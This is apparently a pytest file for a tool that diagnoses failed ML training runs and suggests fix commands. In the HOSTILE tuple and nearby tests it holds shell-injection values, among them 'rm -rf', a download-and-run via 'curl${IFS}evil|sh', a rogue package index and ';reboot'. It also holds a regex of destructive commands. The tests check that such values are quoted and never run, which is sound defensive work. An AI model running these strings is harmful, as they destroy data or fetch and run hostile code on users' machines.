    ("All the weights of Qwen2MoeForCausalLM were initialized from the model checkpoint at /m/Chat.\n", "VG505", "WorkNCCL(SeqNum=323081, OpType=_ALLGATHER_BASE)", "", "ACCELERATE_DEEPSPEED_MOE_LAYER_CLS_NAMES=Qwen2MoeSparseMoeBlock "),
    ("sendBytes failed on SocketImpl(fd=96, addr=[a-worker-2]:41839, remote=[a-master-0]:23456): Broken pipe\n", "VG563", "NCCL communicator was aborted on rank 18.", "", "kubectl logs a-master-0 --previous > a-master-0.log ||"),
    ("x transformers/trainer.py x\n", "VG503", "Expected to have finished reduction", MINE, "--ddp_find_unused_parameters true --gradient_checkpointing_kwargs '{\"use_reentrant\": false}'; in code: TrainingArguments(ddp_find_unused_parameters=True, gradient_checkpointing_kwargs={\"use_reentrant\": False})"),
    ("accelerate launch train.py\n", "VG503", "Expected to have finished reduction", "", "Accelerator(kwargs_handlers=[accelerate.DistributedDataParallelKwargs(find_unused_parameters=True)])"),
    ("UserWarning: None of the inputs have requires_grad=True. Gradients will be None\n", "VG507", "does not require grad", "", "use_reentrant=False"),
    ("", "VG507", "does not require grad", "", "print([n for n, p in model"),
    ("python -m torch.distributed.launch --nproc_per_node=2 train.py\n", "VG528", "modified by an inplace operation: [torch.cuda.FloatTensor [256]]", "", "DistributedDataParallel(…, broadcast_buffers=False)"),
    ("docker run --rm -it img python t.py\n", "VG537", "Found no NVIDIA driver on your system", "", "docker run --gpus all"),
    ("docker run --gpus all img python t.py\n", "VG537", "Found no NVIDIA driver on your system", "", "nvidia-smi, on the machine"),
    ("NCCL INFO NCCL_SOCKET_IFNAME set by environment to eth7\n", "VG536", "Bootstrap : no socket interface found", "", "unset NCCL_SOCKET_IFNAME GLOO_SOCKET_IFNAME in the script that starts the job: eth7"),
    ("ft.py --image_folder ../imgs --bf16 True\n", "VG518", "absolute aspect ratio must be smaller than 200", "", "python -c"),
    ("swift sft --max_length 2048 --model x\n", "VG506", "ValueError: Image features and image tokens do not match: tokens: 1998, features 2691", "", "--max_length 8192 --truncation_strategy delete"),
    ("swift sft --max_length 4096 --model x\n", "VG511", "MaxLengthError: Current length of row(5437) is larger than the max_length(4096).", "", "--max_length 8192 --truncation_strategy delete"),
    ("swift sft --model x\n", "VG511", "MaxLengthError: Current length of row(48210) is larger than the max_length(32768).", "", "--max_pixels 602112"),
    ("", "VG545", "ScatterGatherKernel.cu:144: operator(): block: [1575,0,0] Assertion `idx_dim >= 0 && idx_dim < index_size` failed.", MINE, "labels = labels.masked_fill(labels == -100, 0) in front of it (its losses are masked out afterwards): a gather of log-probabilities"),
    ("", "VG545", "ScatterGatherKernel.cu:144: operator(): block: [1575,0,0] Assertion `idx_dim >= 0 && idx_dim < index_size` failed.", 'File "/h/MiniCPM-V/finetune/finetune.py", line 3, in f File "/c/modeling_minicpmv.py", line 152, in get_vllm_embedding', "--model_max_length 4096"),
    ("sft.py --dataset_name org/rows\n", "VG518", "absolute aspect ratio must be smaller than 200", MINE, "dataset = dataset.filter(lambda x: max(x['image'].size) < 200 * min(x['image'].size)) in /w/sft.py"),
    ("TRANSFORMERS_OFFLINE=1 python t.py\n", "VG540", "We couldn't connect to 'https://huggingface.co' to load this file", "", "the same command without TRANSFORMERS_OFFLINE"),
    ("", "VG599", "OSError: [Errno 24] Too many open files", MINE + ' File "/e/lib/python3.7/multiprocessing/reduction.py", line 153, in recvfds', "torch.multiprocessing.set_sharing_strategy('file_system') on the first line behind the imports of /w/sft.py"),
    ("trainable params: 37,355,520 || all params: 8,440,124,144 || trainable%: 0.44\n", "VG520", "ValueError: Attempting to unscale FP16 gradients.", MINE, "for p in model.parameters(): p.data = p.data.float() if p.requires_grad"),
    ("", "VG546", "Some tensors share memory", MINE + 'save_file(state_dict, out) File "/e/site-packages/safetensors/torch.py", line 232, in save_file', "state_dict = {k: v.detach().clone().contiguous() for k, v in state_dict.items()} on the line before /w/sft.py:7"),
    ("x transformers/trainer.py x\n", "VG546", "Some tensors share memory", MINE + 'File "/e/site-packages/transformers/trainer.py", line 3721, in _save File "/e/site-packages/safetensors/torch.py", line 232, in save_file', "--save_safetensors false"),
    ("deepspeed --deepspeed z3.json t.py\n", "VG523", "RuntimeError: 'weight' must be 2-D", 'File "/e/site-packages/trl/trainer/dpo_trainer.py", line 327, in get_batch_metrics ) = self.concatenated_forward(self.ref_model, batch)', "python -m pip install 'trl>=0.7.2,<0.9'"),
    ("", "VG543", "[87c1e21c0a1d:53138:0:53138] Caught signal 7 (Bus error: nonexistent physical address)", "", "docker run --shm-size=16g"),
    ("swift sft --attn_impl flash_attn\n", "VG538", "Failed to import transformers.models.x because of the following error: /u/flash_attn_2_cuda.so: undefined symbol: _ZN", "", "python -m pip install --no-build-isolation"),
    ("", "VG538", "Failed to import transformers.models.x because of the following error: /u/flash_attn_2_cuda.so: undefined symbol: _ZN", "", "python -m pip uninstall -y flash-attn"),
    ("llamafactory-cli train --dataset mine\nRunning tokenizer on dataset: 0%|\n", "VG510", "the number of <image> tokens", "", "grep -A 20 '\"mine\"' data/dataset_info.json"),
    ("torchrun --nnodes 2 --node_rank 1 --master_addr 10.1.1.5 --master_port 29501 main.py\n", "VG517", "store->get('0') got error: Socket Timeout", "", "nc -vz 10.1.1.5 29501"),
    ("finetune.py --max_seq_length 4096 --bf16 True\n", "VG506", "size of tensor a (2253) must match the size of tensor b (3584)", "input_embeds[selected] * 0.0 + vit_embeds.reshape(-1, C)", "--max_seq_length 8192"),
    ("UserWarning: NVIDIA GeForce RTX 5090 with CUDA capability sm_120 is not compatible\n", "VG537", "CUDA error: no kernel image is available", "", "python -m pip install --force-reinstall torch torchvision --index-url https://download.pytorch.org/whl/cu128"),
    ("srun: error: gpu-7: task 0: Exited with exit code 1\n", "VG534", "CUDA error: uncorrectable ECC error encountered", "", "sbatch --exclude=gpu-7"),
    ("", "VG534", "NVRM: Xid (PCI:0000:02:00): 79, GPU has fallen off the bus.", "", "sudo reboot"),
    ("", "VG534", "CUDA error: uncorrectable ECC error encountered", "", "nvidia-smi -q -d ECC"),
    ("", "VG512", "CUDA out of memory. Tried to allocate 64.00 MiB. Process 12345 has 22.10 GiB memory in use. Including non-PyTorch memory, this process has 1.40 GiB memory in use. 1.00 GiB is allocated by PyTorch", "", "ps -o pid,user,etime,args -p 12345"),
    ("FullyShardedDataParallel\n", "VG523", "'weight' must be 2-D", MINE, "/w/sft.py:7: call the wrapped model itself"),
    ("", "VG527", "at least two devices, cuda:0 and cpu! (when checking argument for argument index in method wrapper_CUDA__index_select)", MINE, "/w/sft.py:7: batch = {k: v.to(model.device)"),
    ("", "VG527", "at least two devices, cuda:0 and cpu! (when checking argument for argument mat2 in method wrapper_CUDA_mm)", MINE, "/w/sft.py:7: model.to(\"cuda\")"),
    ("", "VG535", "The node was low on resource: ephemeral-storage.", "", "resources.limits.ephemeral-storage"),
    ("", "VG537", "The NVIDIA driver on your system is too old (found version 11040).", "", "python -m pip install --force-reinstall torch torchvision --index-url https://download.pytorch.org/whl/cu118"),
    ("OutOfMemoryError  Traceback\nCell In[12], line 1\nFile x/transformers/trainer.py:2245\n", "VG512", "CUDA out of memory", "", "TrainingArguments(gradient_checkpointing=True)"),
    ("", "VG536", "Gloo connectFullMesh failed with pair.cc", "", "GLOO_SOCKET_IFNAME=$(ip route"),
    ("", "VG528", "a view of a leaf Variable that requires grad is being used in an in-place operation.", MINE + "emb.scatter_(0, i, v)", "/w/sft.py:7: x = x.scatter("),
    ("", "VG504", "saved metadata: {'shape': 1, 'device': device(type='cuda', index=1)} recomputed metadata: {'shape': 1, 'device': device(type='cpu')}", "", "no offloading of activations"),
    ("deepspeed t.py --deepspeed ./scripts/zero3_offload.json\n", "VG527", "at least two devices, cuda:3 and cpu!", "", '"offload_param" and "offload_optimizer" taken out of ./scripts/zero3_offload.json'),
    ("", "VG532", "/tmp/slurmd/job603995/slurm_script: line 9:  4727 Killed", "", "sacct -j 603995 "),
    ("ft.py --lora_enable True --deepspeed zero1.json --per_device_train_batch_size 1 --gradient_checkpointing True\n", "VG512", "CUDA out of memory", "", '"stage": 3'),
    ("x trl/trainer/online_dpo_trainer.py x\n", "VG501", "ready only once", MINE + 'File "/e/site-packages/trl/trainer/online_dpo_trainer.py", line 9, in step', "--gradient_checkpointing_kwargs '{\"use_reentrant\": false}'; in code: OnlineDPOConfig("),
    ("swift sft \\\n --model x\n", "VG526", "mat1 and mat2 must have the same dtype, but got Float and BFloat16", "", "--torch_dtype bfloat16"),
    ("swift sft --model x --torch_dtype bfloat16\n", "VG515", "{'loss': nan", "", "--attn_impl sdpa"),
)  # fmt: skip


def test_the_first_step_is_in_the_runs_own_words():
    for words, code, message, trace, first in RUNS:
        facts = of_text([words]).at(message, trace, "")
        assert flags.say(KNOWN[code].remedies(facts)[0], facts).startswith(first), words


TRACE = 'File "/job/train.py", line 7, in <module> main() File "/env/lib/python3.11/site-packages/torch/_tensor.py", line 9, in backward'


@pytest.mark.parametrize(("code", "message"), [("VG528", "RuntimeError: Trying to backward through the graph a second time"), ("VG532", "_ArrayMemoryError: Unable to allocate 256. TiB"), ("VG581", "ZeroDivisionError: division by zero")])
def test_the_line_of_the_users_own_code(code, message):
    assert steps(code, message, trace=TRACE)[0].startswith("/job/train.py:7")


@pytest.mark.parametrize("code", ["VG550", "VG553", "VG554", "VG566", "VG575", "VG576"])
def test_a_check_without_words_is_looked_at(code):
    assert steps(code, "AssertionError: ", trace=TRACE)[0].startswith("sed -n 1,11p /env/lib/python3.11/site-packages/torch/_tensor.py")
    assert not steps(code, "AssertionError: x is not y", trace=TRACE)[0].startswith("sed")


def _ran(command: str, *words: str) -> str:
    """What bash prints for a step's command with ``words`` in place of its last one."""
    line = command.partition("FOLDER")[0].partition("FILE.json")[0].partition("{data}")[0]
    line = line.replace("python -c", f"{shlex.quote(sys.executable)} -c", 1)
    done = subprocess.run(["bash", "-c", line + shlex.join(words)], capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    return done.stdout


def test_commands_that_look(tmp_path):
    rows = tmp_path / "rows.jsonl"
    rows.write_text('{"messages": "<image>a", "images": ["1.png"]}\n{"messages": "<image><image>", "images": ["1.png"]}\n{"c": "<image>", "image": "x.png"}\n')
    assert _ran(looks.ROWS_OF_FILE, str(rows)).strip() == "[(1, ['<image>', '<image>'])]"
    rows.write_text('[{"messages": "<image>a", "answer": "<|image_pad|>", "images": ["1.png"]}, {"messages": [{"type": "image"}], "images": ["1.png"]}, {"messages": "<video>", "videos": ["1.mp4"]}]')
    assert _ran(looks.ROWS_OF_FILE, str(rows)).strip() == "[(0, ['<image>', '<|image_pad|>'])]"
    rows.write_text('{"messages": "<image>a", "images": ["1.png"]}\n{"messages": "<image><image>", "images": ["1.png"]}\n{"c": "<image>", "image": "x.png"}\n')
    broken = tmp_path / "broken.jsonl"
    broken.write_text('{"a": 1}\n{"a": \n{"a": 2}\n')
    assert [line.split()[0] for line in _ran(looks.LINES, str(broken)).splitlines()] == ["2"]
    assert _ran(looks.TYPES, str(broken)).splitlines()[-1] == "{'a': {'int'}}"


def test_commands_that_look_at_images(tmp_path):
    image = pytest.importorskip("PIL.Image")
    (tmp_path / "in").mkdir()
    image.new("RGB", (60, 60)).save(tmp_path / "in" / "good.png")
    image.new("RGB", (3000, 10)).save(tmp_path / "in" / "narrow.png")
    (tmp_path / "in" / "cut.jpg").write_bytes(b"\xff\xd8\xff")
    assert [line for line in _ran(looks.BROKEN, str(tmp_path)).splitlines() if "cut.jpg" in line]
    assert "good.png" not in _ran(looks.BROKEN, str(tmp_path))
    told = _ran(looks.NARROW, str(tmp_path)).splitlines()
    assert [line.split()[1:] for line in told if "narrow" in line] == [["10", "3000"]]
    assert not _ran(looks.HUGE, str(tmp_path / "none")).strip()
    (tmp_path / "rows.jsonl").write_text('{"image": "good.png"}\n{"images": [{"path": "narrow.png"}]}\n{"text": "x"}\n{"images": ["cut.jpg"]}\n')
    told = _ran(f"cd {tmp_path}; {looks.KEPT}", str(tmp_path / "rows.jsonl"), str(tmp_path / "in"))
    assert told.splitlines()[-1] == "2 rows left out of kept.json"
    assert json.loads((tmp_path / "kept.json").read_text()) == [{"image": "good.png"}, {"text": "x"}]


def test_another_port_is_the_same_on_every_node():
    assert "MASTER_PORT=51217 in front of the command" in steps("VG542", "port: 51216, EADDRINUSE", framework="ms-swift")


def test_every_class_has_a_step_for_every_message():
    """Steps that do not fit fall away; some are left, whatever the message says."""
    for known in load():
        for message in ("", "KeyError: 'x'", "wandb swanlab ssh: GPU json wrap Killed", *(e.text for e in known.examples)):
            assert steps(known.code, message), known.code
            assert all("{" + word + "}" not in said for said in steps(known.code, message) for word in named.wants(said))


def test_sizes_are_those_that_fit():
    said = "AssertionError: train_batch_size is not equal to micro_batch_per_gpu * gradient_acc_step * world_size 32 != 2 * 4 * 2"
    assert '"train_batch_size": 16' in steps("VG547", said)[0]
    said = "AssertionError: train_batch_size is not equal to micro_batch_per_gpu * gradient_acc_step * world_size 256 != 4 * 8 * 1"
    assert "WORLD_SIZE" in steps("VG547", said)[0]
    assert "4 × 8 × 8" in steps("VG547", said)[0]
    said = "ValueError: Image features and image tokens do not match: tokens: 9752, features 10436"
    assert int(steps("VG506", said)[0].partition("=")[2]) > 10436
    said = "MaxLengthError: Current length of row(17391) is larger than the max_length(4096)."
    assert int(steps("VG511", said)[0].partition("=")[2]) > 17391
    graph = Facts(framework="TRL", micro=2, accumulation=8)
    whole = [flags.say(do, graph) for do in KNOWN["VG514"].remedies(graph)][-1]
    assert whole == "--per_device_train_batch_size 16 --gradient_accumulation_steps 1"


def test_placeholders_of_vllm():
    said = "ValueError: Attempted to assign 702 = 702 multimodal tokens to 703 placeholders"
    assert KNOWN["VG506"].told(Facts(message=said)).startswith("703 placeholders for 702 features")


def test_the_trainers_own_words_tell_the_batch():
    words = "  Instantaneous batch size per device = 4\n  Total train batch size (w. parallel, distributed & accumulation) = 64\n  Gradient Accumulation steps = 2\n"
    facts = of_text([words])
    assert (facts.micro, facts.accumulation, facts.world) == (4, 2, 8)
    facts = of_text(["--per_device_train_batch_size 1 ", words])
    assert facts.micro == 1


def test_an_output_folder_is_named_where_the_log_tells_it():
    told = steps("VG530", "DUE TO TIME LIMIT", framework="TRL", said={"output_dir": "/out/my run"})
    assert "ls -td '/out/my run'/checkpoint-* | head -1: that folder behind --resume_from_checkpoint, with the same command" in told
    assert steps("VG530", "DUE TO TIME LIMIT")[0].startswith("ls -td ./*/checkpoint-*")


def test_torchvision_of_this_torch():
    said = Facts(message="operator torchvision::nms does not exist", releases={"torch": "2.6.0"})
    assert "torchvision==0.21.*" in flags.say(KNOWN["VG538"].remedies(said)[0], said)


HOSTILE = (
    "ModuleNotFoundError: No module named 'x; rm -rf ~'",
    "ModuleNotFoundError: No module named '--index-url=http://evil/simple'",
    "FileNotFoundError: [Errno 2] No such file or directory: '/tmp/$(touch /tmp/x)'",
    "FileNotFoundError: [Errno 2] No such file or directory: '/a b/`id`; echo'",
    "FileNotFoundError: [Errno 2] No such file or directory: '-rf /'",
    "OSError: gated repo https://huggingface.co/a/b;curl${IFS}evil|sh",
    "RuntimeError: \x1b]0;x\x07port: 29500 \x1b[31m",
    "sft.py: error: unrecognized arguments: --x;reboot",
    "AttributeError: 'A;B' object has no attribute 'c$(d)'",
)


@pytest.mark.parametrize("message", HOSTILE)
def test_a_value_is_one_word_of_a_shell(message):
    said = {"output_dir": "$(reboot)", "dataset": "a;reboot.jsonl", "deepspeed": "`id`.json", "resume_from_checkpoint": "/a/b;reboot", "train_data": "-rf.json"}
    values = named.of(Facts(message=message, trace='File "a;reboot.py", line 3, in f', model="/m;rm -rf /", said=said))
    assert not values.keys() & {"data", "dsfile", "checkpoint"}
    for name, value in values.items():
        words = shlex.split(value)
        if name == "program":
            assert re.fullmatch(r"python [\w.-]+", value)
            continue
        assert len(words) == 1 or name == "numbers", (name, value)
        assert value == shlex.quote(words[0]), (name, value)
        assert not value.startswith("-") or name == "flag"
        assert "\x1b" not in value


def test_no_log_names_a_file_to_take_away():
    """What a log says may be pasted: it is looked at, never deleted, moved or written over."""
    touching = re.compile(r"(?:^|[;&|] ?|\b(?:sudo|xargs) )(?:rm|mv|cp|dd|tee|truncate|chmod|chown|ln|kill)\b[^:;]*\{\w+\}|>\s?\{")
    for known in load():
        for do in known.steps():
            assert not touching.search(do.action), (known.code, do.action)


def test_no_log_names_a_package_to_install():
    """What is not in our own list is not installed by the name that a log gives."""
    assert not any("evil" in one for one in steps("VG552", "ImportError: x is not installed => run `pip install evil`"))
    assert not any("evil" in one for one in steps("VG552", "ImportError: this requires `evil>=1.0`"))
    for module in ("evil", "requests2", "torch_npu_x", "numpy;x"):
        told = steps("VG552", f"ModuleNotFoundError: No module named '{module}'")
        assert not any(f"pip install {module}" in one for one in told)
    assert packages.of("yaml") == "pyyaml"
    assert packages.of("cv2.gapi") == "opencv-python-headless"


def test_secrets_are_no_values():
    said = Facts(message="port: 29500 No such file or directory: '/x/hf_abcdefghijklmnopqrstuvwx/y'", said={"output_dir": "/o/hf_abcdefghijklmnopqrstuvwx"})
    assert not any("abcdefghij" in value for value in named.of(said).values())


def test_steps_of_one_kind_and_words():
    kinds = (Do("ls {path}", kind="a"), Do("ls FILE", kind="a"), Do("x", when=("left",)), Do("y", unless=("left",)))
    assert Do("x", when=("a",)).fits("a b")
    assert not Do("x", unless=("a",)).fits("a b")
    assert [do.fits("left") for do in kinds] == [True, True, True, False]


def test_images_are_not_blamed_where_nothing_sees():
    """A hang of a run of which no argument and no model tells that it sees: look first."""
    said = "[Rank 1] Watchdog caught collective operation timeout: WorkNCCL(SeqNum=7753, OpType=ALLREDUCE)"
    assert steps("VG505", said)[0].startswith("dmesg -T")
    assert any(step.startswith("PET_LOG_DIR=LOGS") for step in steps("VG505", said))
    assert not any("LOGS" in step for step in steps("VG505", said, seen=frozenset(("rank files",))))
    assert "with_blank.json" in steps("VG505", said, model="Qwen/Qwen2.5-VL-7B-Instruct")[0]
    waits = "RuntimeError: Expected to have finished reduction in the prior iteration before starting a new one."
    assert "find_unused_parameters" in steps("VG503", waits)[0]
    assert "vision tower" in steps("VG503", waits, said={"max_pixels": "1"})[0]


@pytest.mark.parametrize(("words", "form"), [("deepspeed train.py --deepspeed z3.json\n", "deepspeed --enable_each_rank_log=LOGS"), ("+ srun python train.py\n", "srun --output=LOGS/rank_%t.log"), ("torchrun t.py\n", "PET_LOG_DIR=LOGS"), ("accelerate launch t.py\n", "accelerate launch --log_dir LOGS")])
def test_a_log_for_each_rank_is_asked_of_the_launcher(words, form):
    """Of the launcher's own argument, and behind what costs a minute."""
    for code, said in (("VG505", "WorkNCCL(SeqNum=77, OpType=ALLREDUCE)"), ("VG517", "wait timeout after 600000ms"), ("VG563", "Connection closed by peer"), ("VG536", "socketProgress: Connection closed by remote peer a<1>")):
        facts = of_text([words]).at(said, "", "")
        found = [flags.say(do, facts) for do in KNOWN[code].remedies(facts)]
        assert any(step.startswith(form) for step in found[1:]), (code, found)


def test_contrastive_losses_know_the_micro_batch():
    """FlagEmbedding's embedders take the other rows of the micro-batch as negatives."""
    said = Facts(framework="FlagEmbedding", phase="forward", micro=8, accumulation=1)
    do = KNOWN["VG512"].remedies(said)
    flag = "--gradient_checkpointing true --gradient_checkpointing_kwargs '{\"use_reentrant\": false}'"
    assert flags.say(do[0], said) == flag
    assert any("in-batch negatives" in one.cost for one in do)


def test_a_rule_is_named_with_what_it_sees(tmp_path):
    path = tmp_path / "x.log"
    path.write_text(compose.failing(1, "RuntimeError: Expected to have finished reduction in the prior iteration before starting a new one."))
    said = text(*explain([str(path)]))
    assert "sees it beforehand where the cause is one of these: VG106 (A tower" in said
    path.write_text(compose.failing(1, "torch.OutOfMemoryError: CUDA out of memory."))
    assert "has no rule that sees this beforehand" in text(*explain([str(path)]))


def test_titles_are_the_rules_own():
    own = {rule.CODE: rule.__doc__.strip().split("\n")[0].rstrip(".") for rule in (*RULES, *GEMINI)}
    told = {code for known in load() for code in known.prevented}
    assert told == TITLES.keys()
    assert {code: own[code] for code in told} == TITLES


def test_what_to_type_where_nothing_is_known(tmp_path):
    (tmp_path / "slurm-4711.out").write_text(compose.preamble("TRL", 2) + "  5%|▌ | 5/100 [00:01<00:10, 1.0it/s]\n")
    said = text(*explain([str(tmp_path / "slurm-4711.out")]))
    assert "sacct -j 4711 --format" in said
    assert "py-spy dump --pid $p" in said
    (tmp_path / "words.log").write_text(compose.preamble("TRL", 2) + compose.DEEPSPEED.format(code=1))
    assert "deepspeed --enable_each_rank_log=LOGS" in text(*explain([str(tmp_path / "words.log")]))


def test_a_rank_that_is_still_at_work_needs_more_time():
    assert steps("VG517", "Socket Timeout", framework="LLaMA-Factory", phase="data")[:2] == ["ddp_timeout: 180000000 (the time-out of its own examples)", "preprocessing_num_workers: 16 (nproc counts the processors)"]
    assert steps("VG517", "Socket Timeout", framework="LLaMA-Factory", phase="data", typed=frozenset(("stage",)))[0].startswith("--ddp_timeout 180000000")
    assert not steps("VG517", "Socket Timeout", framework="LLaMA-Factory")[0].startswith("ddp_timeout")


INSTALLED = """Traceback (most recent call last):
  File "/w/train.py", line 9, in main
    trainer.train()
  File "/v/site-packages/pandas/x.py", line 4, in train
    a()
  File "/v/site-packages/scipy/y.py", line 4, in a
    raise RuntimeError("the moon is full")
RuntimeError: the moon is full
"""


def test_of_an_unknown_failure_the_packages_that_raised_it_are_asked_for(tmp_path):
    path = tmp_path / "train.log"
    path.write_text(INSTALLED, encoding="utf-8")
    answer, digests = explain([str(path)])
    assert answer.verdict == "unknown"
    assert "python -m pip show scipy pandas" in text(answer, digests)
    path.write_text(INSTALLED.replace("/v/site-packages/", "/w/"), encoding="utf-8")
    assert "pip show" not in text(*explain([str(path)]))
